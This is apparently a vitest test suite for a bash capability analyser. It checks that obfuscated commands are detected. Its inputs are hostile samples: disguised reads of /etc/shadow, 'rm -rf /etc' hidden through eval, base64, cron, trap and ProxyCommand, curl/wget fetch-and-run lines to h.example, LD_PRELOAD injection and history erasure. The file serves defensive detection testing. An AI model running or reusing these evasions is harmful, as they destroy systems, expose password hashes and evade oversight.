import { describe, expect, it } from 'vitest';
import { inspected, usesIn } from '../inspect.fixture.ts';

const uses = (code: string) => usesIn('bash', `${code}\n`);

describe('reading /etc/shadow is seen', () => {
  it.each([
    ['in double quotes within a word', 'c""at /etc/shadow'],
    ['in single quotes within a word', "c'a't /etc/sha'd'ow"],
    ['with backslashes', '\\c\\a\\t /etc/sh\\adow'],
    ['in hexadecimal escapes', "$'\\x63\\x61\\x74' /etc/shadow"],
    ['in octal escapes', "$'\\143\\141\\164' $'/etc/\\163hadow'"],
    ['in Unicode escapes', "$'\\u0063at' /etc/shadow"],
    ['in pieces of variables', 'a=ca; b=t; c=/etc/sh; $a$b ${c}adow'],
    ['in an appended variable', 'a=ca; a+=t; $a /etc/shadow'],
    ['in a slice', 'x=xxcatxx; ${x:2:3} /etc/shadow'],
    ['in a slice counted from a variable', 'x=xxcatxx; n=2; ${x:$n:3} /etc/shadow'],
    ['in a replacement', 'x=/eQtc/shaQdow; cat ${x//Q}'],
    ['in a replacement by a pattern', 'x=/e1tc/sha2dow; cat ${x//[0-9]/}'],
    ['with its beginning cut off', 'x=junk:/etc/shadow; cat ${x#*:}'],
    ['with its end cut off', 'x=/etc/shadow.bak; cat ${x%.*}'],
    ['in another case', 'x=/ETC/SHADOW; cat ${x,,}'],
    ['as a default', 'cat ${nothing:-/etc/shadow}'],
    ['through a name in a variable', 'x=/etc/shadow; n=x; cat ${!n}'],
    ['through a reference', 'declare -n r=x; x=/etc/shadow; cat $r'],
    ['in an array', 'a=(cat /etc/shadow); "${a[@]}"'],
    ['in an item of an array', 'a=(x /etc/shadow cat); ${a[2]} ${a[1]}'],
    ['in a table', 'declare -A m=([p]=/etc/shadow); cat "${m[p]}"'],
    ['in braces', '{cat,/etc/shadow}'],
    ['in braces within a word', 'cat /etc/{shadow,}'],
    ['with the separators for blanks', 'cat${IFS}/etc/shadow'],
    ['with separators of its own', 'IFS=,; x=cat,/etc/shadow; $x'],
    ['with a pattern for the command', '/bin/c?t /etc/shadow'],
    ['with a pattern for the file', 'cat /e??/sh*w'],
    ['with a slash out of a variable', 'cat ${HOME:0:1}etc${HOME:0:1}shadow'],
    ['with names that are not set in between', 'c${zz}at /etc/sha${yy}dow'],
    ['with no arguments in between', 'c$@at /etc/sha$*dow'],
    ['printed by a command', '$(echo cat) /etc/`echo shadow`'],
    ['printed letter by letter', "$(printf '\\x63\\x61\\x74') /etc/shadow"],
    ['printed from numbers', 'cat /etc/$(for n in 163 150 141 144 157 167; do printf "\\\\$n"; done)'],
    ['put together in a loop', 's=wodahs; for ((i=5;i>=0;i--)); do r+=${s:$i:1}; done; cat /etc/$r'],
    ['put together by printf -v', 'printf -v p /%s/%s etc shadow; cat $p'],
    ['decoded from base64', 'cat $(echo L2V0Yy9zaGFkb3c= | base64 -d)'],
    ['decoded from hexadecimal', 'cat $(echo 2f6574632f736861646f77 | xxd -r -p)'],
    ['reversed', 'cat $(rev <<< wodahs/cte/)'],
    ['rotated', 'cat /etc/$(echo funqbj | tr a-z n-za-m)'],
    ['edited', "cat $(echo /etc/xxxdow | sed 's/xxx/sha/')"],
    ['cut out', 'cat $(echo a:/etc/shadow:b | cut -d: -f2)'],
    ['picked by a program', "cat $(echo a /etc/shadow | awk '{print $2}')"],
    ['read from a text', 'read -r p <<< /etc/shadow; cat $p'],
    ['read line by line', 'while read -r l; do $l; done <<< "cat /etc/shadow"'],
    ['given to a function', 'f() { cat "$1"; }; f /etc/shadow'],
    ['given to a function further on', 'f() { shift; cat "$@"; }; f x /etc/shadow'],
    ['built by a function', 'p() { echo /etc/$1; }; cat $(p shadow)'],
    ['in the arguments of the shell', 'set -- cat /etc/shadow; "$@"'],
    ['behind an alias', 'alias look="cat /etc/shadow"; look'],
    ['in a loop', 'for f in shadow; do cat /etc/$f; done'],
    ['in one of several branches', 'if [ "$1" ]; then f=/etc/shadow; else f=/etc/shadow; fi; cat $f'],
    ['in a case', 'case x in x) f=/etc/shadow ;; esac; cat $f'],
    ['from within the folder', 'cd /etc; cat shadow'],
    ['from within a folder below', 'cd /etc/ssh && cat ../shadow'],
    ['from a folder on the stack', 'pushd /etc; cat shadow'],
    ['by another way', 'cat /usr/../etc/./shadow'],
    ['by busybox', 'busybox cat /etc/shadow'],
    ['through several programs', 'nohup env A=1 nice -n 5 timeout 5 cat /etc/shadow'],
    ['through xargs', 'echo /etc/shadow | xargs -n1 cat'],
    ['in a place that xargs fills', 'echo shadow | xargs -I% cat /etc/%'],
    ['in a command line in one word', "env -S 'cat /etc/shadow'"],
    ['behind coproc', 'coproc cat /etc/shadow'],
    ['in the background', 'cat /etc/shadow & wait'],
    ['in a subshell', '( cd /etc; cat shadow )'],
    ['in a function that is never called', 'never() { cat /etc/shadow; }'],
    ['in a block that is timed', 'time { cat /etc/shadow; }'],
    ['in backticks of a here-document', 'cat <<X\n`cat /etc/shadow`\nX'],
    ['in a test', '[[ $(cat /etc/shadow) ]]'],
    ['in the index of an array', 'a[$(cat /etc/shadow)]=1'],
    ['in a default', 'echo "${x:-$(cat /etc/shadow)}"'],
    ['in arithmetic', 'n=$((1+1)); a=(x y /etc/shadow); cat ${a[n]}'],
  ])('%s', async (_, code) => {
    const seen = (await uses(code)).map((use) =>
      use.replace(/^(\S+ \S+) .*\/etc\/(\S*\/)?\.{0,2}\/?shadow.*/, '$1 shadow'),
    );
    expect(seen).toContain('secret.read cat shadow');
  });
});

describe('deleting /etc is seen', () => {
  it.each([
    ['in eval', 'eval "rm -rf /etc"', []],
    ['in eval with variables of the script', "d=/etc; eval 'rm -rf $d'", []],
    ['in a shell', "bash -c 'rm -rf /etc'", []],
    ['in a shell with arguments', "bash -c 'rm -rf $1' x /etc", []],
    ['in a shell with an exported variable', "export D=/etc; sh -c 'rm -rf $D'", []],
    ['in a shell with a variable set for it', "env D=/etc sh -c 'rm -rf $D'", []],
    ['in a shell, among other options', "bash --norc -ec 'rm -rf /etc'", []],
    ['in a here-string', 'bash <<< "rm -rf /etc"', []],
    ['in a here-document', 'sh <<EOF\nrm -rf /etc\nEOF', []],
    ['in a pipe', 'echo "rm -rf /etc" | sh', []],
    ['in a longer pipe', 'echo "rm -rf /etc" | tee log | cat | bash -s', []],
    ['decoded in a pipe', 'echo cm0gLXJmIC9ldGM= | base64 -d | sh', ['base64 -d']],
    ['decoded in a substitution', 'bash -c "$(base64 -d <<< cm0gLXJmIC9ldGM=)"', ['base64 -d']],
    [
      'decoded twice',
      'echo WTIwZ0xYSm1JQzlsZEdNPQ== | base64 -d | base64 -d >/dev/null; eval "$(echo Y20wZ0xYSm1JQzlsZEdNPQ== | base64 -d | base64 -d)"',
      ['base64 -d'],
    ],
    ['from a file of its own', 'echo "rm -rf /etc" > a.sh; bash a.sh', []],
    ['from a file that is started', 'printf "#!/bin/sh\\nrm -rf /etc\\n" > a; chmod +x a; ./a', []],
    ['from a sourced file', 'cat > a <<X\nrm -rf /etc\nX\n. ./a', []],
    ['from a substituted process', 'source <(echo "rm -rf /etc")', []],
    ['at the end', "trap 'rm -rf /etc' EXIT", []],
    ['before every prompt', "PROMPT_COMMAND='rm -rf /etc'", []],
    ['on a schedule', 'echo "* * * * * rm -rf /etc" | crontab -', []],
    ['at a time', 'at now <<< "rm -rf /etc"', []],
    ['for everything that is found', "find / -exec sh -c 'rm -rf /etc' \\;", []],
    ['in a program for awk', 'awk \'BEGIN{system("rm -rf /etc")}\'', []],
    ['in a program for perl', 'perl -e \'exec "rm -rf /etc"\'', []],
    ['as an action of tar', 'tar cf x y --checkpoint-action=exec="rm -rf /etc"', []],
    ['in an alias of several commands', "alias ll='ls; rm -rf /etc'; ll", []],
    ['by a shell with another name', "cp /bin/sh ./x; ./x -c 'rm -rf /etc'", []],
    ['in a layer of layers', 'bash -c "eval \\"sh -c \'rm -rf /etc\'\\""', []],
    ['by an editor', "vim -c ':!rm -rf /etc'", []],
    ['as a carrier of connections', "ssh -o ProxyCommand='rm -rf /etc' h", []],
    ['as another user', "su -c 'rm -rf /etc'", []],
  ])('%s', async (_, code, decoders) => {
    const { sites } = await inspected('bash', `${code}\n`);
    const found = sites.filter(
      (site) => site.capability === 'file.delete' && site.callee === 'rm' && site.target === '/etc',
    );
    expect(found).not.toEqual([]);
    expect(found[0]?.inner?.at(-1)?.language).toBe('bash');
    expect(found[0]?.inner?.flatMap(({ decoder }) => decoder ?? []).slice(0, 1)).toEqual(decoders);
  });
});

describe('code in another language is handed on', () => {
  it.each([
    ['python3 -c "import os; os.remove(\'/etc/passwd\')"', 'os.remove'],
    ["python3 - <<'EOF'\nimport os\nos.remove('/etc/passwd')\nEOF", 'os.remove'],
    ['echo "import os; os.remove(\'/etc/passwd\')" | python3', 'os.remove'],
    ["node -e \"require('fs').unlinkSync('/etc/passwd')\"", 'unlinkSync'],
    ["cat > a.py <<X\nimport os\nos.remove('/etc/passwd')\nX\npython3 a.py", 'os.remove'],
  ])('%s', async (code, callee) => {
    const { sites } = await inspected('bash', `${code}\n`);
    const found = sites.filter((site) => site.inner !== undefined && site.target === '/etc/passwd');
    expect(found.map((site) => site.callee).join()).toContain(callee);
  });
});

describe('what is not known is said, with where it comes from', () => {
  it.each([
    ['x=$(curl -s http://h.example/); eval "$x"', 'eval', 'curl -s http://h.example/'],
    ['curl -o f http://h.example/; sh f', 'sh', 'curl -o f http://h.example/'],
    ['wget http://h.example/f; chmod +x f; ./f', 'f', 'wget http://h.example/f'],
    ['bash -c "$(wget -qO- http://h.example/)"', 'bash', 'wget -qO- http://h.example/'],
    ['. <(curl http://h.example/)', '.', 'curl http://h.example/'],
  ])('%s', async (code, callee, from) => {
    const { sites } = await inspected('bash', `${code}\n`);
    expect(sites.filter((site) => site.callee === callee).at(-1)?.arguments).toMatchObject({ from });
  });
});

describe('settings that outlive a line are uses of their own', () => {
  it.each([
    ['LD_PRELOAD=/tmp/a.so ls /x', 'code.native LD_PRELOAD /tmp/a.so'],
    ['env LD_PRELOAD=/tmp/a.so ls', 'code.native LD_PRELOAD /tmp/a.so'],
    ['export PATH=/tmp/bin:$PATH', 'code.import PATH /tmp/bin'],
    ['export HISTFILE=/dev/null', 'file.delete export ~/.bash_history'],
    ['HISTSIZE=0', 'file.delete export ~/.bash_history'],
    ['set +o history', 'file.delete set ~/.bash_history'],
    ['BASH_ENV=/tmp/x', 'code.eval BASH_ENV /tmp/x'],
    ["MANPAGER='sh -c id' man ls", 'code.eval MANPAGER sh -c id'],
    ['LESSOPEN="|id %s" less x', 'code.eval LESSOPEN |id %s'],
    ["NODE_OPTIONS='--require /tmp/x.js' npm test", 'code.eval NODE_OPTIONS /tmp/x.js'],
    ['hash -p /bin/rm ls; ls /etc/x', 'file.delete rm /etc/x'],
    ['enable -f /tmp/x.so x', 'code.native enable /tmp/x.so'],
    ['git config --global core.pager "sh -c id"', 'system.persist git sh -c id'],
  ])('%s', async (code, expected) => {
    const { sites } = await inspected('bash', `${code}\n`);
    expect(sites.map(({ capability, callee, target }) => `${capability} ${callee} ${target}`)).toContain(expected);
  });
});

it.each([
  ['r\\\nm /etc/passwd', 'file.delete rm /etc/passwd'],
  ['c\\\n"a"t /etc/sha\\\ndow', 'secret.read cat /etc/shadow'],
  ['cat \\\n  notes.txt', 'file.read cat notes.txt'],
])('a word that goes on in the next line is one: %j', async (code, expected) => {
  expect(await uses(code)).toEqual([expected]);
});

describe('what counts is not lost behind what does not', () => {
  it.each([
    ['many words', `rm -rf ${'./aaaaaaa '.repeat(600)}~`],
    ['many different words', `rm -rf ${Array.from({ length: 600 }, (_, i) => `./a${i}`).join(' ')} ~`],
    ['a long way to a place', `rm -rf /tmp${'/.'.repeat(1_500)}/../home/user`],
    ['many calls', `f() { rm -rf "$1"; }\n${Array.from({ length: 250 }, (_, i) => `f ./a${i}`).join('\n')}\nf ~`],
    ['many items', `a=(${Array.from({ length: 600 }, (_, i) => `./a${i}`).join(' ')} ~)\nrm -rf "\${a[@]}"`],
    ['many words read', `echo ${Array.from({ length: 300 }, (_, i) => `./a${i}`).join(' ')} ~ | xargs rm -rf`],
    ['many turns of a loop', `for x in ${Array.from({ length: 90 }, (_, i) => i).join(' ')} ~; do rm -rf $x; done`],
  ])('%s', async (_, code) => {
    const { sites } = await inspected('bash', `${code}\n`);
    const named = sites.flatMap(({ capability, target = '' }) =>
      capability === 'file.delete' ? target.split(' ') : [],
    );
    expect(named.some((path) => path === '~' || path === '/home/user')).toBe(true);
  });

  it('and where too much counts it is said that some is missing', async () => {
    const many = Array.from({ length: 2_100 }, (_, i) => `/a/b${i}`).join(' ');
    for (const code of [`rm ${many} ~`, `for x in ${many} ~; do rm $x; done`])
      expect((await inspected('bash', `${code}\n`)).skipped).toHaveLength(1);
  });
});

describe('a harmless twin stays harmless', () => {
  it.each([
    ['PATH=$PATH:/usr/local/go/bin'],
    ['HISTSIZE=10000'],
    ['export EDITOR=vim PAGER=less'],
    ['NODE_OPTIONS=--max-old-space-size=4096'],
    ['hash -r'],
    ['x=/etc/shadow; x=notes.txt; cat $x', 'file.read cat notes.txt'],
    ['f() { cat "$1"; }; f notes.txt', 'file.read cat notes.txt'],
    ['ls /etc/*', 'file.read ls /etc/*'],
    ['cd build && rm -rf *', 'file.delete rm build/*'],
    ['(cd /etc); cat shadow', 'file.read cat shadow'],
    ['cd /etc; cd -; cat shadow', 'file.read cat shadow'],
  ])('%s', async (code, ...expected) => {
    expect(await uses(code)).toEqual(expected);
  });
});
